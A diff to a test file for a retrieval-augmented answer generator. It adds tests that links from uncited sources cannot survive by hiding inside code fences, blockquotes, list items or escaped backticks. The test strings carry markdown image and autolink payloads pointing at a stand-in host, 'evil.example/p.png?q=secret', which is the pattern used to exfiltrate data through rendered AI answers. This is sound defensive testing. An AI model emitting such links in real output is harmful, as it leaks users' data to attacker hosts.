@@ -5,8 +5,11 @@ import re
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 
+from rag import ExtractiveGenerator
 from rag.generation.links import LINK_PLACEHOLDER, remove_uncited_links
+from tests.generation.samples import QUESTION, make_hit, run_generator
 
 SOURCE = "https://docs.example/manual"
 QUOTED = "https://shop.example/parts"
@@ -69,3 +72,36 @@ def test_no_foreign_link_remains(text: str) -> None:
     )
     assert not re.search(r"!\[[^\]\n]*\]\(\S*evil", cleaned)
     assert clean_links(cleaned) == cleaned
+
+
+EVIL = "http://evil.example/p.png?q=secret"
+TRUE = "The battery lasts 34 minutes [1]."
+FENCES_THAT_RENDERERS_SEE_OTHERWISE = [
+    f"{TRUE}\n\n> ```\nsee\n```\nbar = 1\n```\n![x]({EVIL})\n```\n",
+    f"{TRUE}\n\n> ```\n\n```\nbar = 1\n```\n![x]({EVIL})\n```\n",
+    f"{TRUE}\n\n    ```\nfoo\n```\nbar\n```\n![x]({EVIL})\n```\n",
+    f"{TRUE}\n\n```x\n\r```\r![x]({EVIL})\n```\n",
+    f"{TRUE}\r```\rb = 1\n```\n![x]({EVIL})\n```\n",
+    f"- {TRUE}\n\n- ```\n  a=1\n  ```\n  ![x]({EVIL})\n  ```\n",
+    f"{TRUE}\n\n> ```\n[x]: {EVIL}\n```\n\n![x]\n",
+    f"{TRUE} \\`<{EVIL}>\\` is nice",
+    f"{TRUE} \\`![x]({EVIL})\\`",
+    f"{TRUE}\n\n```\n<{EVIL}>\n```\n",
+]
+
+
+@pytest.mark.parametrize("draft", FENCES_THAT_RENDERERS_SEE_OTHERWISE)
+@pytest.mark.parametrize("unsupported", ["drop", "flag"])
+@pytest.mark.parametrize("live", [False, True])
+def test_no_link_hides_in_what_may_be_code(draft: str, unsupported: str, live: bool) -> None:
+    answer, _ = run_generator(draft, live=live, unsupported=unsupported)
+    html = MarkdownIt("commonmark").render(answer.text)
+    assert "34 minutes" in html
+    assert "evil.example" not in "".join(re.findall(r'(?:src|href)="[^"]*"', html))
+
+
+def test_a_document_cannot_link_by_escaped_backticks() -> None:
+    hit = make_hit("u", 0, f"The battery lasts 34 minutes \\`<{EVIL}>\\` in calm air.")
+    answer = ExtractiveGenerator().answer(QUESTION, [hit])
+    assert answer.status == "answered"
+    assert "href" not in MarkdownIt("commonmark").render(answer.text)
